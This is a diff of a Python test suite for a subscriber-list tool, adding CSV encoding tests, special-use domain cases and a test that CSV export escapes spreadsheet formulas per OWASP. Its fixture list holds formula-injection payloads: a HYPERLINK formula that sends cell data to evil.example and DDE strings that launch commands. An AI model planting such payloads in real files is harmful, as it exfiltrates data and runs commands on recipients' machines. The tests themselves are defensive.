@@ -108,6 +108,9 @@ def test_reimport_updates_a_changed_name_only(conn, tmp_path):
         ("", "empty file"),
         (b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe", "not UTF-8"),
         ("email\na@example.com\nb@exa\x00mple.com\n", ":3: NUL byte"),
+        (b"email,name\na@example.com,Ann\nb@example.com,Bj\xf6rn\nc@example.com,Cy\n", ":3: not UTF-8"),
+        (b"email,name\n" + b"a@example.com,Ann\n" * 5000 + b"b@example.com,Bj\xf6rn\n", ":5002: not UTF-8"),
+        (b"email,na\xefve\n", ":1: not UTF-8"),
     ],
 )
 def test_unreadable_or_wrong_files_exit_2_with_one_line(tmp_path, content, expected):
@@ -174,7 +177,7 @@ def test_iteration_is_batched_in_id_order_without_loading_everything(conn):
 
 
 _PIECES = ["a", "Z", "0", ".", "..", "-", "_", "+", "@", " ", "é", "ü", "\n", '"', "[1.2.3.4]", "example", "com",
-           "EXAMPLE", "x" * 70, "xn--exmple-cua", "localhost", "test", "postmaster", "Abuse", "!", "%", "'"]
+           "EXAMPLE", "x" * 70, "xn--exmple-cua", "localhost", "test", "local", "arpa", "LOCAL", "postmaster", "Abuse", "!", "%", "'"]
 
 
 @settings(max_examples=400, deadline=None)
@@ -182,13 +185,15 @@ _PIECES = ["a", "Z", "0", ".", "..", "-", "_", "+", "@", " ", "é", "ü", "\n", 
 def test_the_fast_path_agrees_with_email_validator(local, domain):
     """Plain addresses skip the re-validation of a domain already seen: same answer either way."""
     address = "".join(local) + "@" + "".join(domain)
-    outcomes = []
-    for check in (subs.normalize_email, subs._validate):
-        try:
-            outcomes.append(check(address.strip()))
-        except ValueError as exc:
-            outcomes.append(f"error: {exc}")
-    assert outcomes[0] == outcomes[1], address
+    for special_use in (False, True):
+        outcomes = []
+        for check in (lambda a: subs.normalize_email(a, special_use=special_use),
+                      lambda a: subs._validate(a, special_use)):
+            try:
+                outcomes.append(check(address.strip()))
+            except ValueError as exc:
+                outcomes.append(f"error: {exc}")
+        assert outcomes[0] == outcomes[1], (address, special_use)
 
 
 def test_an_international_domain_is_stored_so_that_it_can_be_mailed(config, conn, tmp_path):
@@ -209,3 +214,31 @@ def test_an_international_domain_is_stored_so_that_it_can_be_mailed(config, conn
         report = delivery.send_issue(conn, config, make_issue(conn))
         assert (report.sent, report.failed) == (2, 0), report.errors
         assert sorted(server.recipients()) == ["Anna@xn--bcher-kva.de", "ben@example.com"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0", "'=already quoted"]
+
+
+def test_export_neutralises_spreadsheet_formulas_and_import_reads_them_back(conn, tmp_path):
+    """OWASP's rule: a cell starting with = + - @, tab or CR gets a leading ' so a spreadsheet
+    shows it as text; importing the export gives the same subscribers back."""
+    for n, name in enumerate(FORMULAS):
+        subs.add(conn, f"reader{n}@example.com", name)
+    subs.add(conn, "=cmd|'/Ccalc'!A0@example.com", "Plain Name")
+    out = io.StringIO()
+    subs.export_csv(conn, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    for row in rows:
+        for cell in row.values():
+            assert not cell or cell[0] not in "=+-@\t\r", cell
+    assert [r["name"] for r in rows[:len(FORMULAS)]] == ["'" + name for name in FORMULAS]
+    assert rows[-1]["email"] == "'=cmd|'/Ccalc'!A0@example.com"
+
+    exported = write(tmp_path / "export.csv", out.getvalue())
+    good, rejected = subs.read_csv(exported)
+    assert rejected == []
+    assert [(email, name) for email, _, name in good] == [
+        *((f"reader{n}@example.com", name) for n, name in enumerate(FORMULAS)),
+        ("=cmd|'/Ccalc'!A0@example.com", "Plain Name"),
+    ]
